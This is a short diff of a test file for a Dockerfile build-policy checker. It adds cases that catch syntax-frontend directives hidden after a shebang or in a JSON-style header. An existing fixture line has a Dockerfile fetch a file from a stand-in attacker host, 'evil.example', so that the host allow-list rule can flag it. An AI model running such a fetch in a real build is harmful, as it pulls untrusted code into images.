@@ -78,6 +78,8 @@ def built(
         (LIBRARY, f"# syntax=docker/dockerfile:1\n{FROM}", 1, "policy.images.allow"),
         ({}, f"# syntax={BASE}\n{FROM}", 1, "policy.frontends.allow"),
         ({}, f"// syntax={BASE}\n{FROM}", 1, "policy.frontends.allow"),
+        ({}, f"#!/build\n# syntax={BASE}\n{FROM}", 2, "policy.frontends.allow"),
+        ({}, f'{{"syntax": "{BASE}"}}', 1, "policy.frontends.allow"),
         ({"images": {"deny": ["debian"]}}, FROM, 1, "policy.images.deny"),
         ({"digests": "required"}, FROM, 1, "policy.digests"),
         (HOSTS, f"{FROM}ADD https://evil.example/x /\n", 2, "policy.hosts.allow"),
